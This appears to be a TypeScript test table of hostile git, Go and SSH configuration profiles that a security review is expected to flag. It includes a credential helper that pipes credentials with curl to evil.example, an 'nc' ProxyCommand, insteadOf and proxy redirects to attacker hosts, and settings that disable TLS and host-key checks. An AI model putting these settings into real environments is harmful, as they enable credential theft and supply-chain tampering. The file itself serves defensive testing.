// The table of hostile and odd profiles the security review is tested against: one row per
// dangerous item the issue lists (and the warnings next to them), as a patch on the base profile,
// with the review item id and level it must produce.
import { createHash } from 'node:crypto';
import type { Json } from './profile-helpers';

const gitExtra = (key: string, value: string) => (p: Json) => (p.advanced = { gitConfig: [{ key, value }] });
const goExtra = (key: string, value: string) => (p: Json) => (p.advanced = { goEnv: { [key]: value } });
const sshExtra =
  (opts: Record<string, string>, host = 'git.corp.test') =>
  (p: Json) =>
    (p.advanced = { sshOptions: { [host]: opts } });

/** A well-formed verifier key for a database that is not sum.golang.org (note.NewVerifier format). */
function customSumdbKey(name: string): string {
  const key = Buffer.concat([Buffer.from([1]), Buffer.alloc(32, 7)]);
  const hash = createHash('sha256')
    .update(Buffer.concat([Buffer.from(`${name}\n`), key]))
    .digest()
    .subarray(0, 4);
  return `${name}+${hash.toString('hex')}+${key.toString('base64')}`;
}

export type Row = [name: string, patch: (p: Json) => void, id: string, level: 'danger' | 'warning'];

export const table: Row[] = [
  [
    'insteadOf taking over github.com',
    gitExtra('url.https://evil.example/.insteadOf', 'https://github.com/'),
    'git-insteadof-foreign:url.https://evil.example/.insteadOf',
    'danger',
  ],
  [
    'insteadOf sending the own host elsewhere',
    gitExtra('url.https://evil.example/.insteadOf', 'https://git.corp.test/'),
    'git-insteadof-foreign:url.https://evil.example/.insteadOf',
    'danger',
  ],
  [
    'core.sshCommand',
    gitExtra('core.sshCommand', 'ssh -o ProxyCommand=evil'),
    'git-runs-command:core.sshCommand',
    'danger',
  ],
  ['core.fsmonitor', gitExtra('core.fsmonitor', '/tmp/x.sh'), 'git-runs-command:core.fsmonitor', 'danger'],
  ['core.hooksPath', gitExtra('core.hooksPath', '/tmp/hooks'), 'git-runs-command:core.hooksPath', 'danger'],
  [
    'credential.helper with !',
    gitExtra('credential.helper', '!curl -d @- https://evil.example'),
    'git-credential-helper:credential.helper',
    'danger',
  ],
  [
    'include.path',
    gitExtra('include.path', '/tmp/other.gitconfig'),
    'git-runs-command:include.path',
    'danger',
  ],
  [
    'includeIf path',
    gitExtra('includeIf.gitdir:~/.path', '/tmp/o'),
    'git-runs-command:includeIf.gitdir:~/.path',
    'danger',
  ],
  [
    'protocol.ext.allow',
    gitExtra('protocol.ext.allow', 'always'),
    'git-protocol-allow:protocol.ext.allow',
    'danger',
  ],
  [
    'http.sslVerify=false',
    gitExtra('http.sslVerify', 'false'),
    'git-ssl-verify-off:http.sslVerify',
    'danger',
  ],
  [
    'per-host sslVerify=false',
    gitExtra('http.https://git.corp.test/.sslVerify', 'false'),
    'git-ssl-verify-off:http.https://git.corp.test/.sslVerify',
    'danger',
  ],
  [
    'an unscoped extra header',
    gitExtra('http.extraHeader', 'Authorization: Bearer x'),
    'git-extra-header:http.extraHeader',
    'danger',
  ],
  [
    'an unknown git key',
    gitExtra('merge.conflictStyle', 'zdiff3'),
    'git-setting:merge.conflictStyle',
    'warning',
  ],
  [
    'a plain credential helper',
    gitExtra('credential.helper', 'store'),
    'git-credential-helper:credential.helper',
    'warning',
  ],
  ['GOFLAGS -toolexec', goExtra('GOFLAGS', '-toolexec=/tmp/x'), 'goflags-exec:-toolexec', 'danger'],
  ['GOFLAGS -exec', goExtra('GOFLAGS', '-mod=mod -exec=/tmp/x'), 'goflags-exec:-exec', 'danger'],
  ['GOFLAGS -overlay', goExtra('GOFLAGS', '-overlay=/tmp/o.json'), 'goflags-exec:-overlay', 'danger'],
  ['GOFLAGS -modfile', goExtra('GOFLAGS', '-modfile=/tmp/go.mod'), 'goflags-exec:-modfile', 'danger'],
  ['other GOFLAGS', goExtra('GOFLAGS', '-mod=mod'), 'goflags', 'warning'],
  ['GOSUMDB=off (sumdb policy)', (p) => (p.sumdb = 'off'), 'go-sumdb-off', 'danger'],
  ['GOSUMDB=off (advanced)', goExtra('GOSUMDB', 'off'), 'go-sumdb-off', 'danger'],
  [
    'a custom checksum database',
    goExtra('GOSUMDB', customSumdbKey('sum.evil.example')),
    'go-sumdb-custom',
    'danger',
  ],
  ['a GOSUMDB go rejects', goExtra('GOSUMDB', 'evil.example+12345678+AAAA'), 'go-sumdb-invalid', 'warning'],
  [
    'sumdb lookups through another host',
    goExtra('GOSUMDB', 'sum.golang.org https://sum.evil.example'),
    'go-sumdb-url:sum.evil.example',
    'warning',
  ],
  ['GOPRIVATE=*', (p) => (p.modules.private = ['*']), 'go-pattern-wide:GOPRIVATE:*', 'danger'],
  [
    'GOPRIVATE=github.com (not declared)',
    (p) => (p.modules.private = ['git.corp.test', 'github.com']),
    'go-pattern-wide:GOPRIVATE:github.com',
    'danger',
  ],
  ['GOPRIVATE=*.com', (p) => (p.modules.private = ['*.com']), 'go-pattern-wide:GOPRIVATE:*.com', 'danger'],
  ['GONOSUMDB=*', (p) => (p.modules.noSumDb = ['*']), 'go-pattern-wide:GONOSUMDB:*', 'danger'],
  [
    'GOPRIVATE under the own domain but wider',
    (p) => (p.modules.private = ['*.corp.test']),
    'go-pattern-wide:GOPRIVATE:*.corp.test',
    'warning',
  ],
  [
    'GOINSECURE on the own host',
    goExtra('GOINSECURE', 'git.corp.test'),
    'go-insecure:git.corp.test',
    'warning',
  ],
  ['GOINSECURE=*', goExtra('GOINSECURE', '*'), 'go-pattern-wide:GOINSECURE:*', 'danger'],
  [
    'GOPROXY over http',
    goExtra('GOPROXY', 'http://proxy.corp.test,direct'),
    'goproxy-http:proxy.corp.test',
    'danger',
  ],
  [
    'GOPROXY to an unexpected host',
    goExtra('GOPROXY', 'https://evil.example,direct'),
    'goproxy-unexpected:evil.example',
    'danger',
  ],
  [
    'a password in GOPROXY',
    goExtra('GOPROXY', 'https://u:secret@git.corp.test,direct'),
    'goproxy-credentials:git.corp.test',
    'danger',
  ],
  ['GOTOOLCHAIN', goExtra('GOTOOLCHAIN', 'go1.22.0'), 'gotoolchain', 'warning'],
  ['GOVCS', goExtra('GOVCS', '*:all'), 'govcs', 'warning'],
  ['CC', goExtra('CC', '/tmp/evil-cc'), 'go-env-program:CC', 'danger'],
  [
    'ssh ProxyCommand',
    sshExtra({ ProxyCommand: 'nc evil.example 22' }),
    'ssh-runs-command:git.corp.test:ProxyCommand',
    'danger',
  ],
  [
    'ssh LocalCommand',
    sshExtra({ PermitLocalCommand: 'yes', LocalCommand: 'id' }),
    'ssh-runs-command:git.corp.test:LocalCommand',
    'danger',
  ],
  [
    'ssh KnownHostsCommand',
    sshExtra({ KnownHostsCommand: '/bin/echo' }),
    'ssh-runs-command:git.corp.test:KnownHostsCommand',
    'danger',
  ],
  [
    'StrictHostKeyChecking no',
    sshExtra({ StrictHostKeyChecking: 'no' }),
    'ssh-hostkey-off:git.corp.test:StrictHostKeyChecking',
    'danger',
  ],
  [
    'UserKnownHostsFile /dev/null',
    sshExtra({ UserKnownHostsFile: '/dev/null' }),
    'ssh-hostkey-off:git.corp.test:UserKnownHostsFile',
    'danger',
  ],
  [
    'ForwardAgent yes',
    sshExtra({ ForwardAgent: 'yes' }),
    'ssh-forwarding:git.corp.test:ForwardAgent',
    'danger',
  ],
  [
    'HostName elsewhere',
    sshExtra({ HostName: 'evil.example' }),
    'ssh-redirect:git.corp.test:HostName',
    'danger',
  ],
  [
    'ssh settings for github.com',
    sshExtra({ User: 'git' }, 'github.com'),
    'ssh-foreign-host:github.com',
    'danger',
  ],
  [
    'a private CA for github.com',
    (p) =>
      Object.assign(p.hosts[0], {
        kind: 'github',
        webUrl: 'https://github.com',
        caCertificate: '-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n',
      }) && (p.modules.private = ['github.com/acme']),
    'ca-install:github.com',
    'danger',
  ],
  [
    'a test module outside the private patterns',
    (p) => (p.testModules = [{ module: 'example.org/x' }]),
    'test-module-public:example.org/x',
    'warning',
  ],
];
